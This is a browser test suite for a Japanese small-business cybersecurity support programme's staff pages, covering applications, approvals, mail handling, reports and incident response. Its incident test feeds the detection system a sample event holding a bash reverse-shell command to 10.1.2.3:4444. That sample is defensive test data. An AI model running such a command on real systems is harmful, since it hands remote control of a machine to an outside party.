// timeout: 600
/*
 * The pages of those who run a programme, on the real centre and in a real
 * browser: one application from its receipt to the city's approval with keys
 * alone, what happens when two do the same, hundreds of rows, and every page
 * in two sizes.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { EXIM, Exim } from '../mail/exim.mjs';
import { event } from '../wire/centre.mjs';
import { fillByKeys, look, skip, Staff, TOP } from './staff.mjs';

const INTERACTIVE_MS = 200; /* a key, with 500 rows on the page: half of them, */
const SLOW_MS = 1000;       /* and 95 of 100: other programs share the processor */
const ROWS = 500;

const staff = new Staff();
let secretariat, expert, city, desk, device;

before(async () => {
	if (skip) return;
	await staff.start({ arguments: ['--rules', `${TOP}/rules/sigma`] });
	/* S-11: a form of Friday is due on Wednesday */
	staff.centre.clock('set', '2025-05-23T10:00:00+09:00');
	await staff.apply();
	await staff.apply({ company: '青空印刷', company_kana: 'アオゾラインサツ', mail: 'owner@insatsu.example', telephone: '03-2222-3333', contact: '青空 花子' });
	await staff.apply({ company: '見本運送', company_kana: 'ミホンウンソウ', mail: 'owner@unsou.example', telephone: '03-4444-5555', industry: 'manufacturing',
		past_support: 'yes', past_content: 'guidance', past_name: '令和5年度の支援事業' });
	[secretariat, expert, city, desk] = await Promise.all(['office', 'expert', 'city', 'desk'].map((name) => staff.page(`${name}@mihon.example`)));
});
after(() => staff.stop());

/* Opens the row of a company with keys alone: search, out of the box, first row, Enter. */
async function openByKeys(page, company) {
	await page.waitForSelector('[data-row]');
	await page.keyboard.press('/');
	await page.keyboard.press('Control+A');
	await page.keyboard.insertText(company);
	await page.waitForFunction((name) => [...document.querySelectorAll('a[data-row]')].every((a) => a.textContent === name)
		&& document.querySelector('a[data-row]'), company);
	await page.keyboard.press('Enter');
	await page.keyboard.press('j');
	await page.keyboard.press('Enter');
	await page.waitForSelector('article.application');
	assert.equal(await page.textContent('main h1'), company);
}

/* Chooses a step by its number and does it, with keys alone; returns the state after it. */
async function doByKeys(page, name, answers) {
	const before = await page.getAttribute('article.application', 'data-state');
	const names = await page.$$eval('.event-choice button', (all) => all.map((b) => b.lastChild.textContent));
	if (names.length > 0) {
		assert.ok(names.indexOf(name) >= 0, `${name} is not among ${names}`);
		await page.keyboard.press(String(names.indexOf(name) + 1));
	} else {
		await page.keyboard.press('e');
	}
	await page.waitForFunction(() => document.activeElement.closest('.event-form'));
	await fillByKeys(page, await page.getAttribute('.event-form', 'data-event'), answers);
	await page.waitForFunction((old) => document.querySelector('article.application').dataset.state !== old
		|| document.querySelector('.event-form .problem'), before);
	assert.equal(await page.locator('.event-form .problem').allTextContents().then((all) => all.join()), '', name);
	return page.getAttribute('article.application', 'data-state');
}

test('the secretariat sees what came, by when, and whose turn it is (R-007, R-008, R-010, S-11, S-17)', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await secretariat.waitForSelector('[data-row]');
	assert.equal(await secretariat.locator('[data-row]').count(), 3);
	assert.match(await secretariat.locator('tbody tr').first().textContent(), /5\/28\(水\)/);
	assert.equal(await secretariat.locator('.step-count[data-state="received"] .step-all').textContent(), '3');
	assert.match(await secretariat.locator('.seat[data-course="edr"]').textContent(), /3／50社.*残り47社/);
	for (const text of ['ミホンショクドウ', '03-1234-5678', 'owner@shokudou.example', '2025-kihon-00001']) {
		await staff.open(secretariat, `/applications?q=${encodeURIComponent(text)}`);
		await secretariat.waitForFunction(() => document.querySelectorAll('a[data-row]').length === 1);
		assert.equal(await secretariat.locator('a[data-row]').first().textContent(), '見本食堂', text);
	}
});

test('a new application appears without a reload', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await secretariat.waitForSelector('[data-row]');
	await secretariat.evaluate(() => { globalThis.same = true; });
	await staff.apply({ company: '神田書房', company_kana: 'カンダショボウ', mail: 'owner@shobou.example', telephone: '03-6666-7777' });
	await secretariat.waitForFunction(() => document.querySelectorAll('a[data-row]').length === 4, null, { timeout: 3000 });
	assert.equal(await secretariat.evaluate(() => globalThis.same), true);
});

test('late is red only where a hard deadline has passed (R-010, S-16)', { skip }, async () => {
	staff.centre.clock('set', '2025-05-29T10:00:00+09:00');
	await staff.open(secretariat, '/applications');
	await secretariat.waitForSelector('[data-row]');
	assert.equal(await secretariat.locator('.due-breach').count(), 4);
	assert.match(await secretariat.locator('.chip-late').textContent(), /4/);
	await look(secretariat, 'applications');
});

test('conditions that need a look stand first, and the step waits for it (R-019, R-026)', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '見本運送');
	assert.equal(await secretariat.locator('.verdict').first().getAttribute('data-condition'), 'past_support');
	assert.match(await secretariat.locator('.verdict').first().textContent(), /要確認/);
	assert.match(await secretariat.locator('.verdict').first().getAttribute('data-rules'), /R-024/);
	await secretariat.keyboard.press('1');
	await secretariat.waitForFunction(() => document.activeElement.closest('.event-form'));
	await fillByKeys(secretariat, 'accept_rules', { channel: 'telephone', person: '運送 太郎', own_cost_told: 'yes' });
	await secretariat.waitForSelector('.event-form .problem');
	assert.match(await secretariat.textContent('.event-form .problem'), /確認が必要な要件/);
	assert.equal(await secretariat.inputValue('#event-accept_rules-person'), '運送 太郎', 'nothing typed is lost');
});

test('keys alone: received, rules accepted, expert, diagnosis, decision, approval (R-005, R-009, R-031, R-029, R-006, S-18)', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '見本食堂');
	/* the call is written down beside it */
	await secretariat.keyboard.press('n');
	await secretariat.keyboard.insertText('不在。午後にかけ直す。');
	await secretariat.keyboard.press('Tab');
	await secretariat.keyboard.press('Tab');
	await secretariat.keyboard.press('Enter');
	await secretariat.waitForSelector('.contacts .not-reached');
	await look(secretariat, 'application');
	assert.equal(await doByKeys(secretariat, '規定の了承を記録（申込完了）', { channel: 'telephone', person: '店主 一郎', own_cost_told: 'yes', note: '規定を説明した。' }), 'completed');
	assert.match(await secretariat.textContent('[data-mark="completed"]'), /令和7年5月29日/);
	assert.match(await secretariat.textContent('[data-mark="confirmed"]'), /まだ/);
	/* S-18: from Thursday, three business days */
	assert.match(await secretariat.textContent('.title .due'), /6\/3\(火\)/);

	await staff.open(expert, '/');
	await openByKeys(expert, '見本食堂');
	assert.equal(await doByKeys(expert, '専門家の連絡を記録',
		{ channel: 'telephone', security_state: '対策は市販のソフトのみ。', first_date: '6/4', first_time: '13:30', form: 'visit' }), 'diagnosis');
	await expert.waitForFunction(() => /6月4日/.test(document.querySelector('#history-title ~ ol').textContent));
	await look(expert, 'diagnosis');
	assert.equal(await doByKeys(expert, '事前診断の結果を記録', {
		network: 'ルーター1台、HUB2台。', hub_port: 'yes', existing_utm: 'no', pcs: '30', os: 'Windows 11、Debian 12', antivirus: 'yes', existing_edr: 'no',
		policy: 'partly', utm_possible: 'no', utm_reason: '置き場所がない。', edr_possible: 'yes' }), 'decision');

	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '見本食堂');
	assert.equal(await doByKeys(secretariat, 'コースを決定（参加確定）', { courses: ['edr'], agreed: 'yes', reason: '診断の結果による。' }), 'approval');
	assert.match(await secretariat.textContent('[data-mark="confirmed"]'), /令和7年/);

	await staff.open(city, '/');
	assert.match(await city.textContent('main h1'), /承認待ち/);
	await look(city, 'approvals');
	await openByKeys(city, '見本食堂');
	assert.equal(await doByKeys(city, '承認', { note: '問題ありません。' }), 'preparing');
	assert.match(await city.textContent('[data-mark="approved"]'), /令和7年/);
	/* the city sees no incidents and no mails */
	assert.equal(await city.locator('nav a[href="/incidents"], nav a[href="/mails"]').count(), 0);
	assert.equal(await expert.evaluate(() => fetch('/v1/incidents').then((r) => r.status)), 403);
});

test('what is wrong stands beside its field, and the first look goes there', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '青空印刷');
	await secretariat.keyboard.press('1');
	await secretariat.waitForFunction(() => document.activeElement.closest('.event-form'));
	await secretariat.locator('#event-accept_rules-person').fill('青空 花子');
	await secretariat.locator('.event-form button[type=submit]').click();
	assert.equal(await secretariat.locator('.event-form .problem li').count(), 2);
	assert.match(await secretariat.evaluate(() => document.activeElement.className), /problem/);
	await secretariat.getByLabel('電話', { exact: true }).check();
	await secretariat.getByLabel('いいえ', { exact: true }).check();
	await secretariat.locator('.event-form button[type=submit]').click();
	/* refused by the centre, beside the field */
	await secretariat.waitForSelector('.field.wrong .error');
	assert.match(await secretariat.textContent('.field.wrong .error'), /費用/);
	assert.equal(await secretariat.inputValue('#event-accept_rules-person'), '青空 花子');
	await look(secretariat, 'errors');
});

test('two do it at once: the second sees it, and nothing typed is lost', { skip }, async () => {
	const other = await staff.client('office@mihon.example');
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '青空印刷');
	await secretariat.locator('.event-choice button').filter({ hasText: '規定の了承' }).click();
	await secretariat.locator('#event-accept_rules-person').fill('青空 花子');
	await secretariat.getByLabel('電話', { exact: true }).check();
	await secretariat.getByLabel('はい', { exact: true }).check();
	const id = secretariat.url().split('/').pop();
	const now = await other.ask('GET', `/v1/applications/${id}`);
	await other.ask('POST', `/v1/applications/${id}/events`, { event: 'contact_failed', version: now.version, fields: [{ name: 'channel', value: 'telephone' }] });
	await secretariat.waitForFunction(() => /連絡がつかなかった/.test(document.querySelector('#history-title ~ ol').textContent));
	assert.match(await secretariat.textContent('.contacts [data-step="contact_failed"]'), /電話/, 'a step by telephone is a contact');
	/* the old version, as a page would send that has not heard yet */
	const refused = await secretariat.evaluate(async ([application, version]) => {
		const me = await (await fetch('/v1/me')).json();
		const answer = await fetch(`/v1/applications/${application}/events`, { method: 'POST',
			headers: { 'Content-Type': 'application/json', 'Hikeshi-CSRF': me.csrf },
			body: JSON.stringify({ event: 'contact_failed', version, fields: [{ name: 'channel', value: 'mail' }] }) });
		return [answer.status, (await answer.json()).error?.code];
	}, [id, now.version]);
	assert.deepEqual(refused, [409, 'version_conflict']);
	assert.equal(await secretariat.inputValue('#event-accept_rules-person'), '青空 花子', 'a change from elsewhere keeps what is typed');
	/* the same step done by somebody else: what was typed can still be read and copied */
	const latest = await other.ask('GET', `/v1/applications/${id}`);
	await other.ask('POST', `/v1/applications/${id}/events`, { event: 'accept_rules', version: latest.version,
		fields: [{ name: 'channel', value: 'mail' }, { name: 'person', value: '青空 花子' }, { name: 'own_cost_told', value: 'yes' }] });
	await secretariat.waitForSelector('#todo-title ~ .notice');
	assert.match(await secretariat.textContent('#todo-title ~ .notice'), /青空 花子/);
	await look(secretariat, 'conflict');
	await secretariat.getByRole('button', { name: 'この入力を消す' }).click();
	assert.equal(await secretariat.locator('#todo-title ~ .notice').count(), 0);
});

test('a version that is old is refused and shown again with what was typed', { skip }, async () => {
	const other = await staff.client('office@mihon.example');
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '神田書房');
	const id = secretariat.url().split('/').pop();
	/* the page hears nothing of it: its answers are held at the first version */
	const first = await (await secretariat.request.get(`${staff.centre.people}/v1/applications/${id}`)).text();
	let hold = true;
	await secretariat.route(`**/v1/applications/${id}`, (route) => (hold ? route.fulfill({ body: first, contentType: 'application/json' }) : route.continue()));
	await other.ask('POST', `/v1/applications/${id}/events`, { event: 'contact_failed', version: JSON.parse(first).version, fields: [{ name: 'channel', value: 'telephone' }] });
	await secretariat.locator('.event-choice button').filter({ hasText: '規定の了承' }).click();
	await secretariat.locator('#event-accept_rules-person').fill('書房 次郎');
	await secretariat.getByLabel('電話', { exact: true }).check();
	await secretariat.getByLabel('はい', { exact: true }).check();
	await secretariat.locator('.event-form button[type=submit]').click();
	await secretariat.waitForSelector('.event-form .problem');
	assert.match(await secretariat.textContent('.event-form .problem'), /ほかの人が先に変更しました/);
	assert.equal(await secretariat.inputValue('#event-accept_rules-person'), '書房 次郎');
	hold = false;
	await secretariat.unroute(`**/v1/applications/${id}`);
	await secretariat.reload();
});

test('what ends an application is asked twice (R-028)', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '神田書房');
	await secretariat.locator('.event-choice button').filter({ hasText: '辞退' }).first().click();
	await secretariat.locator('#event-withdraw-reason').fill('都合により。');
	await secretariat.locator('.event-form button[type=submit]').click();
	await secretariat.waitForSelector('dialog[open]');
	await look(secretariat, 'sure');
	await secretariat.keyboard.press('Escape');
	assert.equal(await secretariat.getAttribute('article.application', 'data-state'), 'received');
	assert.equal(await secretariat.inputValue('#event-withdraw-reason'), '都合により。');
	await secretariat.locator('.event-form button[type=submit]').click();
	await secretariat.locator('dialog .danger').click();
	await secretariat.waitForFunction(() => document.querySelector('article.application').dataset.state === 'withdrawn');
});

test('the expert sees at once what waits for the expert', { skip }, async () => {
	await staff.open(expert, '/applications');
	await expert.waitForSelector('[data-row]');
	assert.deepEqual(await expert.locator('a[data-row]').allTextContents(), ['青空印刷']);
	await expert.keyboard.press('m');
	await expert.waitForFunction(() => document.querySelectorAll('a[data-row]').length > 1);
});

test('the outbox shows every mail as it was written, and sends again', { skip }, async () => {
	await staff.open(secretariat, '/mails');
	await secretariat.waitForSelector('[data-row]');
	await look(secretariat, 'mails');
	await secretariat.locator('tbody tr', { hasText: 'owner@shobou.example' }).filter({ hasText: '受け付けました' }).locator('a[data-row]').click();
	await secretariat.waitForSelector('.mail-body');
	assert.match(await secretariat.textContent('.mail-body'), /2025-kihon-0000/);
	await look(secretariat, 'mail');
	await secretariat.getByLabel('宛先').fill('owner@shobou2.example');
	await secretariat.getByRole('button', { name: '送り直す' }).click();
	await secretariat.waitForFunction(() => /owner@shobou2\.example/.test(document.querySelector('.facts').textContent));
});

test('the first device begins the trial, and the page of the office says so (R-049)', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await openByKeys(secretariat, '見本食堂');
	const id = secretariat.url().split('/').pop();
	const analyst = await staff.client('analyst@mihon.example');
	const { company } = await (await staff.client('office@mihon.example')).ask('GET', `/v1/applications/${id}`);
	const { secret } = await analyst.ask('POST', '/v1/enrolment-tokens', { company: company.id, user: '店主 一郎' });
	device = staff.centre.enrol(secret);
	await secretariat.waitForFunction(() => document.querySelector('article.application').dataset.state === 'trial');
	assert.match(await secretariat.textContent('[data-mark="installed"]'), /令和7年/);
	assert.equal(await secretariat.locator('.progress li', { hasText: '辞退を依頼中' }).count(), 0, 'side roads are shown to those who took them');
	assert.deepEqual((await secretariat.locator('.answer-section h3').allTextContents()).filter((title) => /^[a-z_]+$/.test(title)), []);
	await look(secretariat, 'application-trial');
});

test('the desk looks at every company, one key each (R-064)', { skip }, async () => {
	await staff.open(desk, '/checks');
	await desk.waitForSelector('[data-row]');
	const company = desk.locator('tr', { hasText: '見本食堂' });
	assert.equal(await company.getAttribute('data-checked'), '');
	await look(desk, 'checks');
	await desk.keyboard.press('j');
	await desk.keyboard.press('n');
	await desk.keyboard.insertText('異常は見られない。');
	await desk.keyboard.press('Escape');
	await desk.keyboard.press('c');
	await desk.waitForFunction(() => document.querySelector('tr[data-checked="calm"]'));
	assert.match(await desk.locator('tr[data-checked="calm"]').first().textContent(), /異常なし/);
});

test('an incident: judged, called, told, then closed (R-060, R-061, R-066, R-067)', { skip }, async () => {
	const sent = await device.batch([event({ Image: '/usr/bin/bash', CommandLine: 'bash -c "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"',
		ProcessGuid: '{00000001-1111-2222-3333-444444444444}', ParentImage: '/usr/bin/bash', ProcessId: 4242 })]);
	assert.equal(sent.status, 200, sent.text);
	await staff.open(desk, '/incidents');
	await desk.waitForSelector('a[data-row]', { timeout: 20000 });
	await desk.locator('a[data-row]').first().click();
	await desk.waitForSelector('.judgement');
	const move = async (name, state) => {
		await desk.getByRole('button', { name, exact: true }).click();
		await desk.waitForSelector(`.facts .state-${state}`);
	};
	/* whom to call stands there, and what is next */
	assert.match(await desk.textContent('.call'), /店主 一郎.*03-1234-5678.*owner@shokudou\.example/s);
	assert.equal(await desk.getAttribute('.care-next', 'data-step'), 'judge');
	await look(desk, 'incident-new');
	await desk.keyboard.press('1');
	assert.equal(await desk.evaluate(() => document.activeElement.name), 'judge');
	await desk.keyboard.press('Escape');
	await desk.evaluate(() => document.activeElement.blur());
	await desk.keyboard.press('t');
	await desk.waitForSelector('.facts .state-assigned');
	await move('調査中', 'investigating');
	await move('封じ込め済み', 'contained');
	await move('解決', 'resolved');
	await desk.getByRole('button', { name: '完了', exact: true }).click();
	await desk.waitForSelector('.side-column .problem');
	assert.match(await desk.textContent('.side-column .problem'), /判断/);
	await desk.getByLabel('はい。インシデントです').check();
	await desk.locator('#judge-reason').fill('外部への逆向きの接続。');
	await desk.getByRole('button', { name: '判断を記録する' }).click();
	await desk.waitForSelector('.judged.real');
	assert.equal(await desk.getAttribute('.care-next', 'data-step'), 'act');
	await desk.getByRole('button', { name: '端末を隔離する' }).click();
	await desk.waitForSelector('dialog [data-consent="no"]');
	await desk.keyboard.press('Escape');
	await desk.getByLabel('話した相手').fill('店主 一郎 様');
	await desk.getByLabel('隔離の了承').check();
	await desk.getByRole('button', { name: 'つながった・記録する' }).click();
	await desk.waitForSelector('.consented');
	await desk.getByRole('button', { name: '端末を隔離する' }).click();
	await desk.waitForSelector('dialog [data-consent="yes"]');
	await desk.keyboard.press('Escape');
	await desk.getByRole('button', { name: '完了', exact: true }).click();
	await desk.waitForFunction(() => /説明/.test(document.querySelector('.side-column .problem')?.textContent ?? ''));
	await desk.getByRole('button', { name: '下書きから始める' }).click();
	await desk.waitForSelector('.story-preview');
	await look(desk, 'incident');
	await desk.getByRole('button', { name: '会社に見せる' }).click();
	await desk.getByRole('button', { name: '文章を直す' }).waitFor();
	await desk.getByRole('button', { name: '完了', exact: true }).click();
	await desk.waitForSelector('.facts .state-closed');
	assert.equal(await desk.locator('.care-next').count(), 0, 'nothing is left to do');
	assert.equal(await desk.getAttribute('[data-step="act"]', 'data-standing'), 'spared', 'closed without');
});

test(`${ROWS} applications on the page: half of the keys answer within ${INTERACTIVE_MS} ms, 95 of 100 within ${SLOW_MS}`, { skip }, async () => {
	const columns = staff.sql("SELECT name FROM pragma_table_info('application') WHERE name NOT IN ('row', 'id', 'number', 'number_text', 'token')").flat();
	const answers = staff.sql("SELECT row FROM application WHERE number_text = '2025-kihon-00002'")[0][0];
	staff.sql(`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ${ROWS})
		INSERT INTO application (id, number, number_text, token, ${columns.join(', ')})
		SELECT printf('019ccccc-0000-7000-8000-%012x', i), 1000 + i, printf('2025-kihon-%05d', 1000 + i), printf('%032x', i), ${columns.join(', ')}
		FROM application, n WHERE application.row = ${answers};
		INSERT INTO application_course (application, programme, course, has_seat)
		SELECT a.row, c.programme, c.course, 0 FROM application a, application_course c WHERE a.number > 1000 AND c.application = ${answers};`);
	await staff.open(secretariat, '/applications');
	await secretariat.waitForSelector('[data-row]');
	const more = secretariat.getByRole('button', { name: 'さらに表示' });
	while (await secretariat.locator('a[data-row]').count() < ROWS) {
		const before = await secretariat.locator('a[data-row]').count();
		await more.click();
		await secretariat.waitForFunction((n) => document.querySelectorAll('a[data-row]').length > n, before);
	}
	const took = await secretariat.evaluate(async () => {
		const shown = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
		const all = [];
		for (let i = 0; i < 40; i++) {
			const start = performance.now();
			document.activeElement.dispatchEvent(new KeyboardEvent('keydown', { key: i % 3 ? 'j' : 'k', bubbles: true }));
			await shown();
			all.push(performance.now() - start);
		}
		return all.sort((a, b) => a - b);
	});
	const [half, most, slowest] = [took[19], took[37], took[39]].map(Math.round);
	console.log(`# ${await secretariat.locator('a[data-row]').count()} rows, key to picture: ${half} ms, 95 of 100 within ${most} ms, slowest ${slowest} ms`);
	assert.ok(half < INTERACTIVE_MS && most < SLOW_MS, `half ${half} ms, 95 of 100 ${most} ms`);
});

test('reports are made with progress (R-068)', { skip }, async () => {
	const make = async (from, to, job) => {
		await secretariat.getByRole('button', { name: '報告書を作る' }).click();
		await secretariat.waitForSelector('dialog[open]');
		await secretariat.getByLabel('最初の日').fill(from);
		await secretariat.getByLabel('最後の日').fill(to);
		if (job === 'over') await look(secretariat, 'reports-make');
		await secretariat.getByRole('button', { name: '作る', exact: true }).click();
		await secretariat.waitForSelector(`[data-job="${job}"]`, { timeout: 60000 });
		return secretariat.textContent(`[data-job="${job}"]`);
	};
	await staff.open(secretariat, '/reports');
	assert.match(await make('2025-03-01', '2025-03-31', 'none'), /参加していた会社はありません/);
	assert.match(await make('2025-05-01', '2025-05-31', 'over'), /1／1/);
	await secretariat.waitForSelector('[data-row]');
	await look(secretariat, 'reports');
	await secretariat.locator('a[data-row]').first().click();
	await secretariat.waitForSelector('[data-figure="events"]');
	await look(secretariat, 'report');
});

test('mails that come back and a mail server that is away are told, not hidden', { skip: skip || (EXIM ? false : 'NO exim4: bounces are NOT tested') }, async (t) => {
	const exim = await new Exim().start(), other = new Staff();
	t.after(async () => { await other.stop(); await exim.done(); });
	await other.start({ arguments: ['--smtp', `smtp://127.0.0.1:${exim.port}`, '--mail-from', '事務局 <office@mihon.example>'] });
	other.centre.clock('set', '2025-05-23T10:00:00+09:00');
	const office = await other.page('office@mihon.example');
	await other.apply();
	await other.apply({ company: '宛先違い商会', company_kana: 'アテサキチガイショウカイ', mail: 'nobody@shouten.example', telephone: '03-7777-8888' });
	await other.open(office, '/mails');
	await office.waitForFunction(() => document.querySelector('tr[data-state="bounced"]') && document.querySelector('tr[data-state="sent"]'), null, { timeout: 20000 });
	assert.match(await office.textContent('tr[data-state="bounced"]'), /宛先違い商会|nobody@shouten\.example/);
	assert.match(await office.textContent('tr[data-state="bounced"] .said'), /no such user/);
	assert.match(await office.textContent('.chip-bounced'), /届かず\s*1/);
	assert.equal(await office.locator('[data-trouble]').count(), 0);
	await exim.stop();
	await other.apply({ company: '待つ書店', company_kana: 'マツショテン', mail: 'matsu@shouten.example', telephone: '03-9999-0000' });
	await office.waitForSelector('[data-trouble="away"]', { timeout: 30000 });
	assert.match(await office.textContent('[data-trouble="away"]'), /つながりません。1通が送信を待っています/);
	await look(office, 'mails-away');
	await exim.start();
	await office.locator('tr[data-state="queued"] a[data-row]').click();
	await office.getByRole('button', { name: '送り直す' }).click();
	await office.waitForSelector('article[data-state="sent"]', { timeout: 20000 });
	await other.open(office, '/mails');
	await office.waitForSelector('tr[data-state="sent"]');
	assert.equal(await office.locator('[data-trouble]').count(), 0);
});

test('English is the second language', { skip }, async () => {
	await staff.open(secretariat, '/applications');
	await secretariat.getByRole('button', { name: 'English' }).click();
	await secretariat.waitForFunction(() => document.documentElement.lang === 'en');
	assert.match(await secretariat.textContent('main h1'), /Applications/);
	await secretariat.getByRole('button', { name: '日本語' }).click();
});
